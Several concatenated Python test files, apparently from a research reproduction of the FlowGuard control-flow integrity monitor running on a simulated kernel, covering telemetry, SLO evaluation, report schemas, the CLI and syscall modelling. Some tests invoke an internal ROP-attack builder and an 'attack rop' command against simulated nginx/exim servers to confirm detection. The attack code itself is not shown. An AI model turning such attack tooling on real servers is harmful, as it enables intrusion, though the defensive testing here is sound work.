        assert first is not None and first["t"] == 130.0
        # Same window: no second sample until the next boundary.
        assert sampler.maybe_sample(180.0) is None
        assert sampler.maybe_sample(200.0) is not None
        assert sampler.taken == 2

    def test_ring_eviction_keeps_newest(self):
        tel = telemetry.get_telemetry()
        sampler = TimeseriesSampler(
            tel.metrics, tel.profiler, interval=10.0, capacity=3,
        )
        for t in (10, 20, 30, 40, 50):
            sampler.sample(float(t))
        assert sampler.taken == 5
        assert sampler.dropped == 2
        assert [s["t"] for s in sampler.samples] == [30.0, 40.0, 50.0]
        assert [s["seq"] for s in sampler.samples] == [2, 3, 4]

    def test_jsonl_export_round_trips(self, tmp_path):
        plane = _plane(interval=10.0)
        telemetry.get_telemetry().metrics.counter("demo.count").inc()
        plane.sampler.sample(10.0)
        path = tmp_path / "series.jsonl"
        assert plane.sampler.export_jsonl(str(path)) == 1
        lines = path.read_text().splitlines()
        sample = json.loads(lines[0])
        assert sample["counters"]["demo.count"] == 1

    def test_prometheus_rendering(self):
        plane = _plane(interval=10.0)
        tel = telemetry.get_telemetry()
        tel.metrics.counter("monitor.checks").inc(path="fast")
        tel.metrics.gauge("fleet.queue_depth").set(3)
        tel.metrics.histogram("fleet.check_lag").observe(42.0)
        plane.sampler.sample(10.0)
        text = plane.sampler.render_prometheus()
        assert "# TYPE repro_monitor_checks counter" in text
        assert 'repro_monitor_checks{path="fast"} 1.0' in text
        assert "# TYPE repro_fleet_queue_depth gauge" in text
        assert "# TYPE repro_fleet_check_lag summary" in text
        assert 'repro_fleet_check_lag{quantile="0.99"} 42.0' in text
        assert "repro_fleet_check_lag_count 1" in text


# -- flight recorder ---------------------------------------------------------


class TestFlightRecorder:
    def test_ring_evicts_in_order(self):
        flight = FlightRecorder(capacity=3)
        for i in range(5):
            flight.record("k", float(i), pid=i)
        assert flight.seq == 5
        assert flight.dropped == 2
        assert [e["seq"] for e in flight.events] == [2, 3, 4]
        assert flight.counts == {"k": 5}  # counts survive eviction

    def test_disabled_mode_allocates_nothing(self):
        flight = FlightRecorder(enabled=False)

        def hammer(n):
            for i in range(n):
                assert flight.record("k", float(i)) is None

        tracemalloc.start()
        try:
            hammer(10)  # warm any one-time interpreter allocations
            before, _ = tracemalloc.get_traced_memory()
            hammer(1000)
            after, _ = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        assert after - before == 0
        assert flight.seq == 0
        assert not flight.events and not flight.counts
        assert flight.dump("reason", 0.0, None) is None

    def test_dumps_are_bounded(self):
        flight = FlightRecorder(max_dumps=2)
        flight.record("k", 1.0)
        for i in range(4):
            flight.dump(f"r{i}", float(i), None)
        assert len(flight.dumps) == 2
        assert flight.dumps_suppressed == 2
        assert [d["reason"] for d in flight.dumps] == ["r0", "r1"]

    def test_dump_freezes_event_tail_and_samples(self):
        tel = telemetry.get_telemetry()
        sampler = TimeseriesSampler(tel.metrics, tel.profiler,
                                    interval=10.0)
        flight = FlightRecorder(dump_events=2, dump_samples=1)
        for i in range(5):
            flight.record("k", float(i))
        sampler.sample(10.0)
        sampler.sample(20.0)
        dump = flight.dump("why", 20.0, sampler)
        assert [e["seq"] for e in dump["events"]] == [3, 4]
        assert [s["t"] for s in dump["samples"]] == [20.0]

    def test_auto_dump_on_violation(self):
        from repro.attacks import build_rop_request, run_recon
        from repro.workloads import build_nginx, build_vdso

        plane = _plane(interval=2000.0)
        recon = run_recon(build_nginx(), libraries(), vdso=build_vdso())
        kernel = Kernel()
        seed_server_fs(kernel)
        monitor, proc = server_pipeline("nginx").deploy(kernel)
        proc.push_connection(build_rop_request(recon))
        kernel.run(proc)
        assert monitor.detections
        assert len(plane.flight.dumps) >= 1
        assert plane.flight.dumps[0]["reason"].startswith("VIOLATION")
        # The dump froze the forced sample taken at violation time.
        assert plane.flight.dumps[0]["samples"]

    def test_auto_dump_on_ledger_drift(self):
        plane = _plane(interval=100.0)
        assert plane.check_reconciliation("fleet-accounting",
                                          {"exact": True})
        assert not plane.check_reconciliation("fleet-accounting",
                                              {"exact": False})
        assert len(plane.flight.dumps) == 1
        assert plane.flight.dumps[0]["reason"] == \
            "ledger drift: fleet-accounting"
        assert plane.flight.counts.get("ledger-drift") == 1

    def test_deterministic_under_seeded_faults(self):
        def one_run():
            tel = telemetry.get_telemetry()
            tel.reset()
            plane = ObservabilityPlane(interval=2000.0, telemetry=tel)
            tel.attach_plane(plane)
            try:
                service = build_fleet(
                    2, 2, 1,
                    faults=FaultPlan.standard_mix(seed=7),
                    retry=RetryPolicy(max_attempts=3,
                                      task_timeout=2_000.0),
                )
                result = service.run()
                return (
                    result.schedule_digest,
                    plane.sampler.taken,
                    dict(plane.flight.counts),
                    [d["reason"] for d in plane.flight.dumps],
                )
            finally:
                tel.detach_plane()
                tel.disable()

        # First run settles the shared trained pipelines (slow-path
        # promotion); the measured pair must then be identical.
        one_run()
        assert one_run() == one_run()


# -- SLO engine --------------------------------------------------------------


def _sample(t, counters=None, gauges=None, histograms=None, total=0.0):
    return {
        "seq": 0,
        "t": t,
        "counters": counters or {},
        "gauges": gauges or {},
        "histograms": histograms or {},
        "profile": {"total": total, "phases": {}},
    }


class TestSLOEngine:
    def test_objective_validation(self):
        with pytest.raises(ValueError, match="unknown SLO objective"):
            SLObjective(name="x", kind="nope", max_value=1.0)
        with pytest.raises(ValueError, match="needs a metric"):
            SLObjective(name="x", kind="gauge", max_value=1.0)
        with pytest.raises(ValueError, match="target"):
            SLObjective(name="x", kind="overhead", max_value=1.0,
                        target=0.0)
        with pytest.raises(ValueError, match="unknown SLObjective keys"):
            SLObjective.from_dict({"name": "x", "kind": "overhead",
                                   "max_value": 1.0, "bogus": 1})

    def test_config_round_trip(self, tmp_path):
        config = SLOConfig.default()
        path = tmp_path / "slo.json"
        config.save(str(path))
        loaded = SLOConfig.load(str(path))
        assert loaded.to_dict() == config.to_dict()
        with pytest.raises(ValueError, match="unknown SLOConfig"):
            SLOConfig.from_dict({"objective": []})

    def test_budget_burn_arithmetic(self):
        engine = SLOEngine(SLOConfig(objectives=[
            SLObjective(name="g", kind="gauge", metric="depth",
                        max_value=1.0, target=0.5),
        ]))
        samples = [_sample(float(i), gauges={"depth": v})
                   for i, v in enumerate([0.0, 2.0, 0.0, 2.0])]
        obj = engine.evaluate(samples)["objectives"][0]
        assert obj["windows"] == 4
        assert obj["violations"] == 2
        assert obj["compliance"] == 0.5
        # burn = violation rate / error budget = 0.5 / 0.5
        assert obj["budget_burn"] == 1.0
        assert obj["met"] is True  # compliance == target exactly

    def test_zero_error_budget_burns_to_cap(self):
        engine = SLOEngine(SLOConfig(objectives=[
            SLObjective(name="g", kind="gauge", metric="depth",
                        max_value=1.0, target=1.0),
        ]))
        samples = [_sample(0.0, gauges={"depth": 5.0})]
        obj = engine.evaluate(samples)["objectives"][0]
        assert obj["budget_burn"] == SLOEngine.BURN_CAP
        assert obj["met"] is False

    def test_absent_metric_windows_do_not_count(self):
        engine = SLOEngine(SLOConfig(objectives=[
            SLObjective(name="g", kind="gauge", metric="depth",
                        max_value=1.0),
        ]))
        report = engine.evaluate([_sample(0.0), _sample(1.0)])
        obj = report["objectives"][0]
        assert obj["windows"] == 0
        assert obj["compliance"] == 1.0
        assert report["met"] is True

    def test_counter_window_uses_deltas(self):
        engine = SLOEngine(SLOConfig(objectives=[
            SLObjective(name="c", kind="counter_window", metric="events",
                        max_value=0.0, target=0.5),
        ]))
        cumulative = [0.0, 3.0, 3.0, 7.0]
        samples = [_sample(float(i), counters={"events": v})
                   for i, v in enumerate(cumulative)]
        obj = engine.evaluate(samples)["objectives"][0]
        # Window deltas 0, 3, 0, 4: two violating windows of four.
        assert obj["windows"] == 4
        assert obj["violations"] == 2
        assert obj["worst"] == 4.0

    def test_labeled_breakdown(self):
        engine = SLOEngine(SLOConfig(objectives=[
            SLObjective(name="c", kind="counter_window", metric="events",
                        max_value=0.0, target=0.5),
        ]))
        samples = [
            _sample(0.0, counters={'events{kind="a"}': 0.0}),
            _sample(1.0, counters={'events{kind="a"}': 2.0,
                                   'events{kind="b"}': 1.0}),
        ]
        obj = engine.evaluate(samples)["objectives"][0]
        assert obj["breakdown"]['events{kind="a"}']["violations"] == 1
        assert obj["breakdown"]['events{kind="b"}']["violations"] == 1

    def test_histogram_quantile_prefers_unlabeled_else_worst(self):
        engine = SLOEngine(SLOConfig(objectives=[
            SLObjective(name="h", kind="histogram_quantile", metric="lag",
                        q=99, max_value=10.0),
        ]))
        labeled = _sample(0.0, histograms={
            'lag{kind="a"}': {"p99": 5.0}, 'lag{kind="b"}': {"p99": 50.0},
        })
        obj = engine.evaluate([labeled])["objectives"][0]
        assert obj["worst"] == 50.0 and obj["violations"] == 1


# -- the plane on a real run -------------------------------------------------


class TestPlaneIntegration:
    def test_fleet_run_reconciles_exactly(self):
        plane = _plane(interval=2000.0)
        service = build_fleet(2, 2, 1)
        result = service.run()
        audit = plane.reconcile(service.monitor.all_stats(),
                                service.monitor.degradations)
        assert audit["exact"], audit
        assert audit["checks"]["flight_verdicts"] == \
            audit["checks"]["stats"]
        assert result.slo is not None
        assert result.slo["sampler"]["samples"] == plane.sampler.taken
        assert plane.sampler.taken > 0
        # The fleet result surfaces the same plane through StatsReport.
        payload = result.to_dict()
        assert payload["schema_version"] == SCHEMA_VERSION
        assert payload["slo"]["flight"]["events"] == plane.flight.seq

    def test_plane_dump_is_json_serializable(self, tmp_path):
        plane = _plane(interval=2000.0)
        service = build_fleet(1, 1, 1)
        service.run()
        path = tmp_path / "plane.json"
        plane.export(str(path))
        dump = json.loads(path.read_text())
        assert dump["kind"] == "plane-dump"
        assert dump["samples"]
        assert dump["slo"]["objectives"]

    def test_attach_detach(self):
        tel = telemetry.get_telemetry()
        plane = ObservabilityPlane(telemetry=tel)
        tel.attach_plane(plane)
        assert tel.enabled and tel.plane is plane
        assert "plane" in tel.snapshot()
        tel.detach_plane()
        assert tel.plane is None


# -- StatsReport v2 -> v3 ----------------------------------------------------


class TestSchemaV3:
    def test_v2_payload_loads_with_none_slo(self):
        v2 = {"schema_version": 2, "monitor": {"checks": 1},
              "context": {"kind": "solo"}}
        report = StatsReport.from_dict(v2)
        assert report.slo is None
        assert report.schema_version == 2

    def test_v3_round_trip(self):
        report = StatsReport(monitor={"checks": 1},
                             slo={"met": True, "objectives": []})
        again = StatsReport.from_dict(report.to_dict())
        assert again.slo == {"met": True, "objectives": []}
        assert again.schema_version == SCHEMA_VERSION

    def test_newer_schema_rejected(self):
        with pytest.raises(ValueError, match="newer"):
            StatsReport.from_dict({"schema_version": SCHEMA_VERSION + 1,
                                   "monitor": {}})


# -- run reports -------------------------------------------------------------


class TestRunReports:
    def test_report_from_plane_dump(self):
        from repro.telemetry.report import render_report

        plane = _plane(interval=2000.0)
        service = build_fleet(1, 1, 1)
        service.run()
        payload = json.loads(json.dumps(plane.to_dict()))
        md = render_report(payload, fmt="markdown")
        assert "# FlowGuard run report" in md
        assert "## SLO objectives" in md
        assert "## Timeseries" in md
        html = render_report(payload, fmt="html")
        assert html.startswith("<!DOCTYPE html>")
        assert "<table>" in html

    def test_report_rejects_unknown_payloads(self):
        from repro.telemetry.report import render_report

        with pytest.raises(ValueError, match="unrecognized"):
            render_report({"something": "else"})
        with pytest.raises(ValueError, match="unknown report format"):
            render_report({"kind": "plane-dump", "samples": []},
                          fmt="pdf")

    def test_sparkline_shapes(self):
        from repro.telemetry.report import sparkline

        assert sparkline([]) == ""
        assert sparkline([1.0, 1.0]) == "▁▁"
        line = sparkline([0.0, 5.0, 10.0])
        assert line[0] == "▁" and line[-1] == "█"
