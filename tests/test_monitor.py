"""End-to-end FlowGuard monitor tests on the nginx analogue."""

import pytest

from repro.monitor import FlowGuardPolicy, Verdict
from repro.osmodel import Kernel, ProcessState, SIGKILL, Sys
from repro.pipeline import FlowGuardPipeline
from repro.workloads import (
    build_libsim,
    build_nginx,
    build_vdso,
    nginx_request,
)

TRAIN_CORPUS = [
    nginx_request("/index.html"),
    nginx_request("/missing.html"),
    nginx_request("/data.txt"),
    nginx_request("/x", "POST", b"body-bytes"),
    nginx_request("/index.html", "HEAD"),
    b"BOGUS garbage\n",
]


@pytest.fixture(scope="module")
def nginx_pipeline():
    return FlowGuardPipeline.offline(
        "nginx",
        build_nginx(),
        {"libsim.so": build_libsim()},
        vdso=build_vdso(),
        corpus=TRAIN_CORPUS,
        mode="socket",
    )


def fresh_kernel():
    kernel = Kernel()
    kernel.fs.create("/index.html", b"<html>hello</html>")
    kernel.fs.create("/data.txt", b"1234567890" * 5)
    return kernel


class TestOfflinePhase:
    def test_training_labels_edges(self, nginx_pipeline):
        assert nginx_pipeline.training is not None
        assert nginx_pipeline.training.inputs_replayed == len(TRAIN_CORPUS)
        assert nginx_pipeline.training.edges_observed > 0
        assert 0 < nginx_pipeline.labeled.trained_ratio() < 1

    def test_cfg_sizes_sane(self, nginx_pipeline):
        stats = nginx_pipeline.ocfg.stats()
        assert stats["exec_blocks"] > 50
        assert stats["lib_blocks"] > 100
        itc_stats = nginx_pipeline.itc.stats()
        assert 0 < itc_stats["nodes"] < stats["blocks"]
        assert itc_stats["edges"] > 0


class TestBenignTraffic:
    def test_no_detection_and_no_kill(self, nginx_pipeline):
        kernel = fresh_kernel()
        monitor, proc = nginx_pipeline.deploy(kernel)
        conns = [
            proc.push_connection(nginx_request("/index.html"))
            for _ in range(5)
        ]
        kernel.run(proc)
        assert proc.state is ProcessState.EXITED
        assert monitor.detections == []
        for conn in conns:
            assert bytes(conn.outbound).startswith(b"HTTP/1.1 200")

    def test_checks_triggered_by_write_endpoints(self, nginx_pipeline):
        kernel = fresh_kernel()
        monitor, proc = nginx_pipeline.deploy(kernel)
        proc.push_connection(nginx_request("/index.html"))
        kernel.run(proc)
        stats = monitor.stats_for(proc)
        assert stats.checks > 0
        assert stats.trace_cycles > 0

    def test_slow_path_rare_after_training(self, nginx_pipeline):
        """§7.2.1: with training + caching, slow path happens rarely."""
        kernel = fresh_kernel()
        monitor, proc = nginx_pipeline.deploy(kernel)
        for _ in range(20):
            proc.push_connection(nginx_request("/index.html"))
        kernel.run(proc)
        stats = monitor.stats_for(proc)
        assert stats.checks >= 20
        # Early checks may demote to the slow path; caching of slow-path
        # negatives must keep the overall rate low.
        assert stats.slow_path_rate < 0.5
        assert stats.fast_passes > 0

    def test_negative_caching_improves(self, nginx_pipeline):
        """Slow-path confirmations promote edges for later checks."""
        import copy

        kernel = fresh_kernel()
        # Use an untrained pipeline clone: everything starts low-credit.
        from repro.itccfg.credits import CreditLabeledITC

        untrained = CreditLabeledITC(itc=nginx_pipeline.itc)
        monitor = nginx_pipeline.make_monitor(kernel)
        proc = kernel.spawn("nginx")
        monitor.protect(proc, untrained, nginx_pipeline.ocfg)
        for _ in range(8):
            proc.push_connection(nginx_request("/index.html"))
        kernel.run(proc)
        stats = monitor.stats_for(proc)
        assert monitor.detections == []
        # The first request runs the slow path; subsequent identical
        # requests hit promoted (cached) edges.
        assert stats.slow_path_runs < stats.checks

    def test_overhead_small(self, nginx_pipeline):
        kernel = fresh_kernel()
        monitor, proc = nginx_pipeline.deploy(kernel)
        for _ in range(10):
            proc.push_connection(nginx_request("/index.html"))
        kernel.run(proc)
        overhead = monitor.overhead_for(proc)
        assert 0 < overhead < 0.5

    def test_unprotected_process_not_intercepted(self, nginx_pipeline):
        kernel = fresh_kernel()
        monitor = nginx_pipeline.make_monitor(kernel)
        proc = nginx_pipeline.spawn_unprotected(kernel)
        proc.push_connection(nginx_request("/index.html"))
        kernel.run(proc)
        assert monitor.detections == []
        assert proc.state is ProcessState.EXITED


class TestPolicy:
    def test_with_endpoints_extends(self):
        policy = FlowGuardPolicy()
        extended = policy.with_endpoints(int(Sys.OPEN))
        assert int(Sys.OPEN) in extended.endpoints
        assert int(Sys.OPEN) not in policy.endpoints

    def test_uninstall_restores_table(self, nginx_pipeline):
        kernel = fresh_kernel()
        before = dict(kernel.syscall_table)
        monitor = nginx_pipeline.make_monitor(kernel)
        assert kernel.syscall_table != before
        monitor.uninstall()
        assert kernel.syscall_table == before

    def test_pmi_counted(self, nginx_pipeline):
        kernel = fresh_kernel()
        monitor, proc = nginx_pipeline.deploy(kernel)
        # Enough traffic to fill the 16 KiB ToPA at least once.
        for _ in range(30):
            proc.push_connection(nginx_request("/data.txt"))
        kernel.run(proc)
        stats = monitor.stats_for(proc)
        assert stats.pmi_count >= 1
