"""Tests for the command-line interface."""

import pytest

from repro.cli import build_parser, main


class TestParser:
    def test_requires_command(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args([])

    def test_attack_choices(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args(["attack", "nuke"])

    def test_serve_defaults(self):
        args = build_parser().parse_args(["serve", "nginx"])
        assert args.sessions == 8
        assert not args.unprotected


class TestCommands:
    def test_serve(self, capsys):
        assert main(["serve", "exim", "-n", "2"]) == 0
        out = capsys.readouterr().out
        assert "monitor:" in out
        assert "overhead" in out

    def test_serve_unprotected(self, capsys):
        assert main(["serve", "exim", "-n", "2", "--unprotected"]) == 0
        out = capsys.readouterr().out
        assert "monitor:" not in out

    def test_attack_rop(self, capsys):
        assert main(["attack", "rop"]) == 0
        out = capsys.readouterr().out
        assert "EXPLOITED" in out
        assert "DETECTED at write" in out

    def test_disasm(self, capsys):
        assert main(["disasm", "dd"]) == 0
        out = capsys.readouterr().out
        assert "push fp" in out

    def test_disasm_unknown_workload(self, capsys):
        assert main(["disasm", "doom"]) == 2

    def test_disasm_unknown_function(self, capsys):
        assert main(["disasm", "dd", "-f", "nope"]) == 2
        err = capsys.readouterr().err
        assert "available" in err

    def test_fuzz_small_budget(self, capsys):
        assert main(["fuzz", "exim", "--budget", "15"]) == 0
        out = capsys.readouterr().out
        assert "path-finding inputs" in out

    def test_experiments_unknown_name(self, capsys):
        assert main(["experiments", "tableX"]) == 2
        assert "unknown experiment" in capsys.readouterr().err

    def test_experiments_single(self, capsys):
        assert main(["experiments", "table5"]) == 0
        out = capsys.readouterr().out
        assert "Table 5" in out

    def test_stats(self, capsys):
        import json

        assert main(["stats", "exim", "-n", "2"]) == 0
        payload = json.loads(capsys.readouterr().out)
        assert payload["server"] == "exim"
        assert payload["reconciliation"]["exact"] is True

    def test_serve_trace_out(self, tmp_path, capsys):
        import json

        trace = tmp_path / "serve_trace.json"
        code = main(
            ["serve", "exim", "-n", "2", "--trace-out", str(trace)]
        )
        assert code == 0
        assert json.loads(trace.read_text())["traceEvents"]
