"""Tests for the command-line interface."""

import pytest

from repro import __version__
from repro.cli import build_parser, main


class TestParser:
    def test_requires_command(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args([])

    def test_version_flag(self, capsys):
        with pytest.raises(SystemExit) as exc:
            build_parser().parse_args(["--version"])
        assert exc.value.code == 0
        assert capsys.readouterr().out.strip() == f"repro {__version__}"

    def test_fleet_defaults(self):
        args = build_parser().parse_args(["fleet"])
        assert args.processes == 8
        assert args.workers == 4
        assert args.policy == "stall"
        assert args.quantum == 2000.0
        assert args.ring_bytes == 8192
        assert args.queue_depth == 64
        assert args.decode_mode == "simulated"
        assert args.sessions == 2
        assert args.seed == 0
        assert not args.inject_rop

    def test_fleet_rejects_unknown_policy(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args(["fleet", "--policy", "panic"])

    def test_attack_choices(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args(["attack", "nuke"])

    def test_serve_defaults(self):
        args = build_parser().parse_args(["serve", "nginx"])
        assert args.sessions == 8
        assert not args.unprotected
        assert args.engine == "columnar"

    def test_serve_and_attack_take_engine(self):
        args = build_parser().parse_args(
            ["serve", "nginx", "--engine", "objects"]
        )
        assert args.engine == "objects"
        args = build_parser().parse_args(
            ["attack", "rop", "--engine", "objects"]
        )
        assert args.engine == "objects"
        with pytest.raises(SystemExit):
            build_parser().parse_args(["attack", "rop", "--engine", "warp"])

    def test_top_defaults(self):
        args = build_parser().parse_args(["top"])
        assert args.processes == 8
        assert args.sample_interval == 2000.0
        assert args.refresh == 5
        assert not args.once

    def test_report_defaults(self):
        args = build_parser().parse_args(["report", "run.json"])
        assert args.input == "run.json"
        assert args.format == "markdown"
        assert args.output is None

    def test_stats_plane_flags(self):
        args = build_parser().parse_args(
            ["stats", "nginx", "--plane", "--plane-out", "p.json"]
        )
        assert args.plane
        assert args.plane_out == "p.json"
        assert args.slo is None


class TestCommands:
    def test_serve(self, capsys):
        assert main(["serve", "exim", "-n", "2"]) == 0
        out = capsys.readouterr().out
        assert "monitor:" in out
        assert "overhead" in out

    def test_serve_unprotected(self, capsys):
        assert main(["serve", "exim", "-n", "2", "--unprotected"]) == 0
        out = capsys.readouterr().out
        assert "monitor:" not in out

    def test_attack_rop(self, capsys):
        assert main(["attack", "rop"]) == 0
        out = capsys.readouterr().out
        assert "EXPLOITED" in out
        assert "DETECTED at write" in out

    def test_disasm(self, capsys):
        assert main(["disasm", "dd"]) == 0
        out = capsys.readouterr().out
        assert "push fp" in out

    def test_disasm_unknown_workload(self, capsys):
        assert main(["disasm", "doom"]) == 2

    def test_disasm_unknown_function(self, capsys):
        assert main(["disasm", "dd", "-f", "nope"]) == 2
        err = capsys.readouterr().err
        assert "available" in err

    def test_fuzz_small_budget(self, capsys):
        assert main(["fuzz", "exim", "--budget", "15"]) == 0
        out = capsys.readouterr().out
        assert "path-finding inputs" in out

    def test_experiments_unknown_name(self, capsys):
        assert main(["experiments", "tableX"]) == 2
        assert "unknown experiment" in capsys.readouterr().err

    def test_experiments_single(self, capsys):
        assert main(["experiments", "table5"]) == 0
        out = capsys.readouterr().out
        assert "Table 5" in out

    def test_stats(self, capsys):
        import json

        assert main(["stats", "exim", "-n", "2"]) == 0
        payload = json.loads(capsys.readouterr().out)
        assert payload["schema_version"] == 4
        assert payload["context"] == {
            "kind": "solo", "server": "exim", "sessions": 2,
        }
        assert payload["fleet"] is None
        assert payload["monitor"]["reconciliation"]["exact"] is True

    def test_serve_trace_out(self, tmp_path, capsys):
        import json

        trace = tmp_path / "serve_trace.json"
        code = main(
            ["serve", "exim", "-n", "2", "--trace-out", str(trace)]
        )
        assert code == 0
        assert json.loads(trace.read_text())["traceEvents"]

    def test_fleet(self, capsys):
        assert main(["fleet", "-p", "2", "-w", "2", "-n", "1"]) == 0
        out = capsys.readouterr().out
        assert "fleet: 2 processes x 2 workers" in out
        assert "exited" in out
        assert "QUARANTINED" not in out
        assert "lag p50" in out
        assert "overhead:" in out

    def test_serve_engine_objects_same_verdicts(self, capsys):
        assert main(["serve", "exim", "-n", "2", "--engine",
                     "objects"]) == 0
        out = capsys.readouterr().out
        assert "monitor:" in out

    def test_stats_with_plane(self, tmp_path, capsys):
        import json

        dump_path = tmp_path / "plane.json"
        assert main(["stats", "exim", "-n", "2", "--plane",
                     "--plane-out", str(dump_path)]) == 0
        payload = json.loads(capsys.readouterr().out)
        assert payload["schema_version"] == 4
        assert payload["slo"]["met"] in (True, False)
        assert payload["slo"]["sampler"]["samples"] > 0
        dump = json.loads(dump_path.read_text())
        assert dump["kind"] == "plane-dump"

    def test_top_once(self, capsys):
        assert main(["top", "--once", "-p", "2", "-w", "2",
                     "-n", "1"]) == 0
        out = capsys.readouterr().out
        assert "repro top" in out
        assert "workers:" in out
        assert "slo:" in out

    def test_report_from_plane_dump(self, tmp_path, capsys):
        assert main(["top", "--once", "-p", "2", "-w", "1", "-n", "1",
                     "--plane-out", str(tmp_path / "plane.json")]) == 0
        capsys.readouterr()
        assert main(["report", str(tmp_path / "plane.json")]) == 0
        out = capsys.readouterr().out
        assert "# FlowGuard run report" in out
        assert "## SLO objectives" in out

    def test_report_rejects_garbage(self, tmp_path, capsys):
        bad = tmp_path / "bad.json"
        bad.write_text("{\"nothing\": true}")
        assert main(["report", str(bad)]) == 2
        assert "unrecognized" in capsys.readouterr().err

    def test_fleet_json(self, capsys):
        import json

        assert main(
            ["fleet", "-p", "2", "-w", "2", "-n", "1", "--json"]
        ) == 0
        out = capsys.readouterr().out
        payload = json.loads(out[out.index("{"):])
        assert payload["schema_version"] == 4
        assert payload["context"]["kind"] == "fleet"
        assert payload["monitor"]["accounting"]["exact"] is True
        assert payload["fleet"]["quarantines"] == []
        assert len(payload["fleet"]["processes"]) == 2
