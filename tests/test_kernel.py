"""Tests for the kernel model: syscalls, fork/exec, signals, interception."""

import pytest

from repro.lang import (
    AddrOf,
    Asm,
    Assign,
    BinOp,
    Call,
    Const,
    Func,
    Global,
    If,
    Let,
    LocalArray,
    Load,
    Program,
    Rel,
    Return,
    Store,
    SyscallExpr,
    Var,
    While,
)
from repro.osmodel import (
    Kernel,
    O_CREAT,
    O_WRONLY,
    PTRACE_TRACEME,
    ProcessState,
    SIGKILL,
    SIGUSR1,
    StepOutcome,
    Sys,
)


def sys_(nr, *args):
    return SyscallExpr(int(nr), list(args))


def build_kernel(main_body, name="prog", extra_funcs=(), data=None):
    prog = Program(name)
    for key, value in (data or {}).items():
        if isinstance(value, str):
            prog.add_string(key, value)
        else:
            prog.add_data(key, value)
    for func in extra_funcs:
        prog.add_func(func)
    prog.add_func(Func("main", [], main_body))
    prog.set_entry("main")
    kernel = Kernel()
    kernel.register_program(name, prog.build())
    return kernel


class TestBasics:
    def test_exit_code(self):
        kernel = build_kernel([Return(Const(17))])
        proc = kernel.spawn("prog")
        assert kernel.run(proc) is ProcessState.EXITED
        assert proc.exit_code == 17

    def test_write_stdout(self):
        body = [
            Let("n", sys_(Sys.WRITE, Const(1), Global("msg"), Const(5))),
            Return(Var("n")),
        ]
        kernel = build_kernel(body, data={"msg": "hello"})
        proc = kernel.spawn("prog")
        kernel.run(proc)
        assert proc.stdout == bytearray(b"hello")
        assert proc.exit_code == 5

    def test_read_stdin(self):
        body = [
            LocalArray("buf", 16),
            Let("n", sys_(Sys.READ, Const(0), AddrOf("buf"), Const(16))),
            ExprLike := sys_(Sys.WRITE, Const(1), AddrOf("buf"), Var("n")),
            Return(Var("n")),
        ]
        kernel = build_kernel(body)
        proc = kernel.spawn("prog", stdin=b"abc")
        kernel.run(proc)
        assert proc.exit_code == 3
        assert proc.stdout == bytearray(b"abc")

    def test_getpid(self):
        kernel = build_kernel([Return(sys_(Sys.GETPID))])
        proc = kernel.spawn("prog")
        kernel.run(proc)
        assert proc.exit_code == proc.pid

    def test_unknown_syscall_einval(self):
        kernel = build_kernel([Return(SyscallExpr(999, []))])
        proc = kernel.spawn("prog")
        kernel.run(proc)
        assert proc.exit_code == -22

    def test_unregistered_program(self):
        kernel = Kernel()
        with pytest.raises(Exception):
            kernel.spawn("ghost")


class TestFiles:
    def test_open_write_read_roundtrip(self):
        body = [
            Let("fd", sys_(Sys.OPEN, Global("path"),
                           Const(O_CREAT | O_WRONLY))),
            sys_(Sys.WRITE, Var("fd"), Global("content"), Const(4)),
            sys_(Sys.CLOSE, Var("fd")),
            Return(Const(0)),
        ]
        kernel = build_kernel(
            body, data={"path": "/tmp/out", "content": "data"}
        )
        proc = kernel.spawn("prog")
        kernel.run(proc)
        assert kernel.fs.contents("/tmp/out") == b"data"

    def test_open_missing_enoent(self):
        body = [Return(sys_(Sys.OPEN, Global("path"), Const(0)))]
        kernel = build_kernel(body, data={"path": "/no/file"})
        proc = kernel.spawn("prog")
        kernel.run(proc)
        assert proc.exit_code == -2

    def test_read_existing_file(self):
        body = [
            LocalArray("buf", 8),
            Let("fd", sys_(Sys.OPEN, Global("path"), Const(0))),
            Let("n", sys_(Sys.READ, Var("fd"), AddrOf("buf"), Const(8))),
            Return(Load(AddrOf("buf"), byte=True)),
        ]
        kernel = build_kernel(body, data={"path": "/etc/x"})
        kernel.fs.create("/etc/x", b"Zfile")
        proc = kernel.spawn("prog")
        kernel.run(proc)
        assert proc.exit_code == ord("Z")

    def test_unlink(self):
        body = [Return(sys_(Sys.UNLINK, Global("path")))]
        kernel = build_kernel(body, data={"path": "/gone"})
        kernel.fs.create("/gone", b"x")
        proc = kernel.spawn("prog")
        kernel.run(proc)
        assert proc.exit_code == 0
        assert not kernel.fs.exists("/gone")

    def test_bad_fd(self):
        kernel = build_kernel(
            [Return(sys_(Sys.WRITE, Const(99), Const(0), Const(0)))]
        )
        proc = kernel.spawn("prog")
        kernel.run(proc)
        assert proc.exit_code == -9


class TestSockets:
    def test_accept_recv_send(self):
        body = [
            LocalArray("buf", 32),
            Let("lfd", sys_(Sys.SOCKET)),
            sys_(Sys.BIND, Var("lfd")),
            sys_(Sys.LISTEN, Var("lfd")),
            Let("cfd", sys_(Sys.ACCEPT, Var("lfd"))),
            If(Rel("<", Var("cfd"), Const(0)), [Return(Const(1))]),
            Let("n", sys_(Sys.RECV, Var("cfd"), AddrOf("buf"), Const(32))),
            sys_(Sys.SEND, Var("cfd"), AddrOf("buf"), Var("n")),
            sys_(Sys.CLOSE, Var("cfd")),
            Return(Const(0)),
        ]
        kernel = build_kernel(body)
        proc = kernel.spawn("prog")
        conn = proc.push_connection(b"ping")
        kernel.run(proc)
        assert proc.exit_code == 0
        assert bytes(conn.outbound) == b"ping"
        assert conn.closed

    def test_accept_empty_queue_eagain(self):
        body = [
            Let("lfd", sys_(Sys.SOCKET)),
            Return(sys_(Sys.ACCEPT, Var("lfd"))),
        ]
        kernel = build_kernel(body)
        proc = kernel.spawn("prog")
        kernel.run(proc)
        assert proc.exit_code == -11


class TestMemorySyscalls:
    def test_mmap_and_use(self):
        body = [
            Let("p", sys_(Sys.MMAP, Const(0), Const(8192), Const(3))),
            Store(Var("p"), Const(123)),
            Return(Load(Var("p"))),
        ]
        kernel = build_kernel(body)
        proc = kernel.spawn("prog")
        kernel.run(proc)
        assert proc.exit_code == 123

    def test_brk_grows_heap(self):
        from repro.osmodel.process import HEAP_BASE

        body = [
            Let("brk", sys_(Sys.BRK, Const(0))),
